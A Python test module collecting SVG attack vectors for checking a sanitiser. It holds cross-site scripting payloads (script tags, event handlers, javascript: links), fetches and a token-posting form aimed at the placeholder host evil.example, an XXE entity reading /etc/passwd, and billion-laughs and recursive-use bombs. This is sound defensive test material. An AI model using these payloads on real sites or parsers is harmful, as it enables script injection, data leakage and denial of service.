# ruff: noqa: E501  # a vector stands on one line
"""Drawings that want to do more than be looked at; each calls alert(1) or fetches where a sanitiser is careless."""

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"'


def drawing(inside: str, attributes: str = "") -> str:
    """Gives a drawing with something inside."""
    return f"<svg {SVG} {attributes}>{inside}</svg>"


# Source: the vectors that DOMPurify, svg-sanitizer, html5sec.org and OWASP's cheat sheet test against, in SVG's form.
VECTORS = {
    "script": drawing("<script>alert(1)</script>"),
    "script with a type": drawing('<script type="text/ecmascript">alert(1)</script>'),
    "script from elsewhere": drawing('<script href="http://evil.example/x.js"/>'),
    "script by xlink": drawing('<script xlink:href="data:text/javascript,alert(1)"/>'),
    "script in CDATA": drawing("<script><![CDATA[alert(1)]]></script>"),
    "script of XHTML": drawing('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "script under another prefix": '<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:script>alert(1)</s:script></s:svg>',
    "script in another case": drawing("<SCRIPT>alert(1)</SCRIPT><Script>alert(1)</Script>"),
    "onload": drawing("", 'onload="alert(1)"'),
    "onload in another case": drawing("", 'OnLoad="alert(1)"'),
    "onload inside": drawing('<g onload="alert(1)"><rect onmouseover="alert(1)" onfocus="alert(1)" tabindex="1"/></g>'),
    "onbegin": drawing('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    "onend of set": drawing('<set onend="alert(1)" attributeName="x" to="1" dur="0.1s"/>'),
    "onerror of an image": drawing('<image href="x" onerror="alert(1)"/>'),
    "autofocus": drawing('<a href="#" autofocus="" onfocus="alert(1)">x</a>', 'tabindex="1"'),
    "event attribute by entity": drawing('<rect onclick="&#97;lert(1)"/>'),
    "javascript link": drawing('<a href="javascript:alert(1)"><rect width="99" height="99"/></a>'),
    "javascript link by xlink": drawing('<a xlink:href="javascript:alert(1)"><text>click</text></a>'),
    "javascript link in pieces": drawing('<a href="java&#10;script:alert(1)"><text>click</text></a>'),
    "javascript link with a tab": drawing('<a href="java&#x09;script:alert(1)"><text>x</text></a>'),
    "data link": drawing('<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><text>click</text></a>'),
    "set href": drawing('<a id="a"><set attributeName="href" to="javascript:alert(1)"/><text>click</text></a>'),
    "animate href": drawing('<a><animate attributeName="xlink:href" values="javascript:alert(1)"/><text>x</text></a>'),
    "animateTransform": drawing('<animateTransform onbegin="alert(1)" attributeName="transform"/>'),
    "animateMotion": drawing('<rect width="1" height="1"><animateMotion onend="alert(1)" dur="1s"/></rect>'),
    "set on an event": drawing('<set attributeName="onmouseover" to="alert(1)"/>'),
    "handler": drawing('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
    "listener": drawing('<listener event="load" handler="#x"/>'),
    "foreignObject": drawing('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'),
    "foreignObject image": drawing('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>'),
    "html in desc": drawing('<desc><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></desc>'),
    "html in title as text": drawing("<g><title>&lt;img src=x onerror=alert(1)&gt;</title></g>"),
    "breaking out of title": drawing("<g><title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title></g>"),
    "breaking out of a style": drawing("<style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style>"),
    "breaking out of CDATA": drawing("<text><![CDATA[</text></svg><script>alert(1)</script>]]></text>"),
    "breaking out of a comment": drawing("<!--><img src=x onerror=alert(1)>-->"),
    "breaking out of an attribute": drawing("<text data-sensor='a/b\"&gt;&lt;img src=x onerror=alert(1)&gt;'>x</text>"),
    "breaking out of a name": drawing("<text data-format='&lt;img src=x onerror=alert(1)>{value}'>x</text>"),
    "html element": drawing('<p xmlns="http://www.w3.org/1999/xhtml">x</p><img src="x" onerror="alert(1)"/>'),
    "mathml": drawing('<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img src="x" onerror="alert(1)"/></mtext></math>'),
    "iframe": drawing('<iframe src="javascript:alert(1)"/><embed src="javascript:alert(1)"/><object data="javascript:alert(1)"/>'),
    "use of another file": drawing('<use href="http://evil.example/x.svg#a"/>'),
    "use of data": drawing('<use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x"/>'),
    "use by xlink": drawing('<use xlink:href="//evil.example/x.svg#a"/>'),
    "image from elsewhere": drawing('<image href="http://evil.example/x.png" width="9" height="9"/>'),
    "image of SVG": drawing('<image href="data:image/svg+xml,&lt;svg onload=alert(1)/>" width="9" height="9"/>'),
    "image that lies": drawing('<image href="data:image/png;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" width="9" height="9"/>'),
    "feImage": drawing('<filter id="f"><feImage href="http://evil.example/x"/></filter><rect filter="url(#f)"/>'),
    "fill from elsewhere": drawing('<rect fill="url(http://evil.example/x.svg#a)" width="9" height="9"/>'),
    "mask from elsewhere": drawing('<rect mask="url(//evil.example/m.svg#m)" clip-path="url(http://evil.example/c#c)"/>'),
    "marker from elsewhere": drawing('<path d="M0 0L9 9" marker-end="url(http://evil.example/m#m)"/>'),
    "cursor from elsewhere": drawing('<rect style="cursor:url(http://evil.example/c.cur),auto" width="9" height="9"/>'),
    "background in a style": drawing('<rect style="background:url(http://evil.example/b.png)" width="9" height="9"/>'),
    "import in a sheet": drawing('<style>@import "http://evil.example/x.css"; @import url(http://evil.example/y.css);</style>'),
    "font in a sheet": drawing('<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)} text{font-family:x}</style>'),
    "sheet that reads attributes": drawing('<style>rect[fill^="a"]{fill:url(http://evil.example/a)}</style><rect fill="a"/>'),
    "escaped url in a style": drawing(r'<rect style="fill:u\72l(http://evil.example/x)" width="9" height="9"/>'),
    "quoted url in a style": drawing("<rect style=\"fill:url('http://evil.example/x')\" width=\"9\" height=\"9\"/>"),
    "expression": drawing('<rect style="width:expression(alert(1))" width="9" height="9"/>'),
    "image-set": drawing('<rect style="fill:image-set(\'http://evil.example/x\' 1x)"/>'),
    "behavior": drawing('<rect style="behavior:url(http://evil.example/x.htc);-moz-binding:url(http://evil.example/x)"/>'),
    "sheet by instruction": f'<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>{drawing("<rect/>")}',
    "script by instruction": f"<?php alert(1) ?>{drawing('<rect/>')}",
    "link element": drawing('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="http://evil.example/x.css"/>'),
    "meta refresh": drawing('<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=http://evil.example/"/>'),
    "base": drawing("", 'xml:base="http://evil.example/"'),
    "form": drawing('<form xmlns="http://www.w3.org/1999/xhtml" action="http://evil.example/"><input name="csrfmiddlewaretoken"/></form>'),
    "a name of the page": drawing('<rect id="main"/><g id="banner"/><text id="say-now">x</text>'),
    "an action of the page": drawing('<rect data-act="theme" data-act-form="x" width="99" height="99"/>'),
    "a class of the page": drawing('<rect class="btn disc banner" width="99" height="99"/>'),
    "video": drawing('<video src="http://evil.example/v" onerror="alert(1)"/><audio src="x" onerror="alert(1)"/>'),
    "discard": drawing('<discard begin="0s" href="#main"/>'),
    "xml events": drawing('<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="javascript:alert(1)"/>'),
    "switch": drawing('<switch><foreignObject><p onclick="alert(1)"/></foreignObject><text>shown</text></switch>'),
    "view target": drawing('<view id="v" viewTarget="javascript:alert(1)"/>'),
    "a huge text": drawing(f"<text>{'&lt;script&gt;' * 2000}</text>"),
}  # fmt: skip

# Files that would grow, or fetch, while they are read.
BOMBS = {
    "billion laughs": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>' + drawing("<text>&b;</text>"),
    "a file of the server": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + drawing("<text>&x;</text>"),
    "a parameter entity": '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>' + drawing(""),
    "an attribute by default": '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + drawing(""),
    "nested without end": drawing("<g>" * 5000 + "</g>" * 5000),
    "elements without end": drawing("<g/>" * 30_000),
    "uses of uses": drawing(
        '<g id="a0"><rect/></g>'
        + "".join(f'<g id="a{n}">{f"""<use href="#a{n - 1}"/>""" * 10}</g>' for n in range(1, 9))
    ),
    "a use of itself": drawing('<g id="a"><use href="#a"/></g>'),
    "patterns of patterns": drawing(
        "<defs>"
        + "".join(f'<pattern id="p{n}">{f"""<rect fill="url(#p{n - 1})"/>""" * 10}</pattern>' for n in range(1, 9))
        + '</defs><rect fill="url(#p8)"/>'
    ),
    "a megabyte": drawing(f"<desc>{'x' * 1_100_000}</desc>"),
    "no extent": '<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>',
    "an extent of nothing": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 100"/>',
    "an extent without end": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e400 nan"/>',
    "HTML": "<html><body><svg/></body></html>",
    "no XML": "{'svg': true}",
    "cut off": "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'><g>",
    "nothing": "",
}
